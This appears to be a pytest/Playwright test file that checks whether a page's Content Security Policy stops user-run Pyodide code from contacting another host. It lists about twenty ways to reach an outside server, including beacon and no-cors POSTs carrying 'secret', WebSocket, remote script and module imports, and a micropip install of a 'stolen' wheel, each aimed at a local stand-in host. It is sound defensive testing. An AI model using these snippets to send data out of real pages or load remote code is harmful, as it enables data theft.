"""Python runs under the page's policy: the reader's own code cannot reach another host, whatever it tries."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import SITE, Opens, live, live_folder
from playwright.sync_api import Error, Page, Worker
from stranger import Stranger, stranger
from watch import Watch

from tools import browser

PAGE = "explore/kv-cache/"
# Python in the very worker that the page started.
START = f"""(origin) => import(origin + '{live_folder()}start.mjs').then((start) => start.startPython())
  .then(async (started) => {{ await started.library(); self.readers = started.python; }})"""
# Of the page in the background too, whose font waits to be shown.
REFUSALS = ["Content Security Policy", "violates", "policy", "Failed to", "WebSocket", "Refused", "preloaded"]
RUN = "([source, url]) => { readers.globals.set('url', url); return readers.runPythonAsync(source); }"

# What a reader might write. Each says "open" when something came back.
WAYS = {
    "fetch": """
from js import fetch
await fetch(url + 'fetch')
'open'
""",
    "fetch without asking": """
from js import fetch, Object
from pyodide.ffi import to_js
how = {'mode': 'no-cors', 'method': 'POST', 'body': 'secret', 'keepalive': True}
how = to_js(how, dict_converter=Object.fromEntries)
await fetch(url + 'blind', how)
'open'
""",
    "pyfetch": """
from pyodide.http import pyfetch
await pyfetch(url + 'pyfetch')
'open'
""",
    "open_url": """
from pyodide.http import open_url
open_url(url + 'open_url')
'open'
""",
    "urllib": """
from urllib.request import urlopen
urlopen(url + 'urllib', timeout=2)
'open'
""",
    "socket": """
import socket
from urllib.parse import urlsplit
connected = socket.create_connection((urlsplit(url).hostname, urlsplit(url).port), timeout=2)
connected.sendall(b'GET /socket HTTP/1.0')
'open' if connected.recv(1) else 'refused'
""",
    "XMLHttpRequest": """
from js import XMLHttpRequest
asked = XMLHttpRequest.new()
asked.open('GET', url + 'xhr', False)
asked.send()
'open'
""",
    "WebSocket": """
import asyncio
from js import WebSocket
said = asyncio.get_event_loop().create_future()
socket = WebSocket.new(url.replace('http', 'ws') + 'socket')
socket.onopen = lambda event: said.set_result('open')
socket.onerror = lambda event: said.set_result('refused')
await asyncio.wait_for(said, 10)
""",
    "EventSource": """
import asyncio
from js import EventSource
said = asyncio.get_event_loop().create_future()
source = EventSource.new(url + 'events')
source.onopen = lambda event: said.done() or said.set_result('open')
source.onerror = lambda event: said.done() or said.set_result('refused')
answer = await asyncio.wait_for(said, 10)
source.close()
answer
""",
    "WebTransport": """
from js import WebTransport
await WebTransport.new(url.replace('http', 'https') + 'transport').ready
'open'
""",
    "sendBeacon": """
from js import navigator
'open' if navigator.sendBeacon(url + 'beacon', 'secret') else 'refused'
""",
    "importScripts": """
from js import importScripts
importScripts(url + 'scripts.js')
'open'
""",
    "a module": """
from pyodide.code import run_js
await run_js("(url) => import(url)")(url + 'module.mjs')
'open'
""",
    "eval": """
from js import eval
eval("'open'")
""",
    "Function": """
from js import Function
Function.new("return 'open'")()
""",
    "a worker of the other host": """
import asyncio
from js import Worker
said = asyncio.get_event_loop().create_future()
worker = Worker.new(url + 'worker.js')
worker.onmessage = lambda event: said.set_result('open')
worker.onerror = lambda event: said.set_result('refused')
await asyncio.wait_for(said, 10)
""",
    "a worker of its own": """
import asyncio
from js import Blob, URL, Worker
from pyodide.ffi import to_js
text = "fetch('%sown', {mode: 'no-cors'}).then(() => postMessage('open'), () => postMessage('refused'))" % url
said = asyncio.get_event_loop().create_future()
worker = Worker.new(URL.createObjectURL(Blob.new(to_js([text]))))
worker.onmessage = lambda event: said.set_result(event.data)
worker.onerror = lambda event: said.set_result('refused')
await asyncio.wait_for(said, 10)
""",
    "our worker from its own address": """
import asyncio
from js import Object, Worker
from pyodide.ffi import to_js
said = asyncio.get_event_loop().create_future()
worker = Worker.new(OURS, to_js({'type': 'module'}, dict_converter=Object.fromEntries))
worker.onmessage = lambda event: said.done() or said.set_result('open')
worker.onerror = lambda event: [event.preventDefault(), said.done() or said.set_result('refused')]
await asyncio.wait_for(said, 60)
""",
    "a font": """
from js import FontFace
await FontFace.new('stolen', 'url(%sfont.woff2)' % url).load()
'open'
""",
    "micropip": """
import micropip
await micropip.install(url + 'stolen-1.0-py3-none-any.whl')
'open'
""",
    "a page's image": """
from js import Image
Image.new().src = url + 'image'
'open'
""",
}


@pytest.fixture(scope="module")
def other_host() -> Iterator[Stranger]:
    with stranger() as server:
        yield server


@pytest.fixture(scope="module")
def readers(site: str, opener: Opens) -> Iterator[tuple[Page, Worker]]:
    """The page's worker with a Python in it that runs what a reader writes."""
    page = live(opener(site + PAGE))
    opener.opened.remove(page)
    worker = next(worker for worker in page.workers if worker.url.startswith("blob:"))
    worker.evaluate(START, site)
    yield page, worker
    page.close()


def test_python_runs_in_one_worker_started_from_a_blob(site: str, opens: Opens) -> None:
    page = live(opens(site + PAGE))
    assert [worker.url.split(":")[0] for worker in page.workers].count("blob") == 1


@pytest.mark.parametrize("way", WAYS)
def test_the_readers_code_reaches_no_other_host(
    way: str, site: str, readers: tuple[Page, Worker], other_host: Stranger, watch: Watch
) -> None:
    watch.expected += REFUSALS
    page, worker = readers
    source = WAYS[way].replace("OURS", repr(f"{site}{live_folder()}worker.mjs"))
    try:
        answer = worker.evaluate(RUN, [source, other_host.url])
    except Error as error:
        assert "PythonError" in str(error), error  # raised by what was tried: the worker is there still
        answer = "refused"
    page.wait_for_timeout(50)
    assert answer == "refused"
    assert (other_host.asked, other_host.connected) == ([], 0)


def test_the_same_code_reaches_the_site_itself(site: str, readers: tuple[Page, Worker], watch: Watch) -> None:
    """So that what is refused is refused for the host, and not because it never worked."""
    watch.expected += REFUSALS
    _, worker = readers
    for way in ("fetch", "pyfetch", "open_url", "XMLHttpRequest"):
        source = WAYS[way]
        for path in ("fetch", "pyfetch", "open_url", "xhr"):
            source = source.replace(f"url + '{path}'", "url")
        assert worker.evaluate(RUN, [source, site]) == "open", way


@pytest.fixture
def site_without_policy(tmp_path: Path) -> Iterator[str]:
    """The site, with the policy taken out of one page."""
    for entry in SITE.iterdir():
        if entry.name != "explore":
            (tmp_path / entry.name).symlink_to(entry)
    shutil.copytree(SITE / "explore", tmp_path / "explore")
    page = tmp_path / PAGE / "index.html"
    page.write_text(page.read_text().replace('http-equiv="Content-Security-Policy"', 'name="nothing"'))
    with browser.served(tmp_path) as address:
        yield address


def test_without_the_policy_the_other_host_is_reached(
    site_without_policy: str, opens: Opens, watch: Watch, other_host: Stranger
) -> None:
    """The counterpart: it is the policy that keeps them, and the other host would have written it down."""
    watch.expected += ["preloaded"]
    page = live(opens(site_without_policy + PAGE))
    worker = next(worker for worker in page.workers if worker.url.startswith("blob:"))
    worker.evaluate(START, site_without_policy)
    for way in ("fetch", "XMLHttpRequest", "a worker of its own"):
        assert worker.evaluate(RUN, [WAYS[way], other_host.url]) == "open", way
    assert other_host.asked == ["GET /fetch", "GET /xhr", "GET /own"]
    other_host.asked.clear()
    other_host.connected = 0
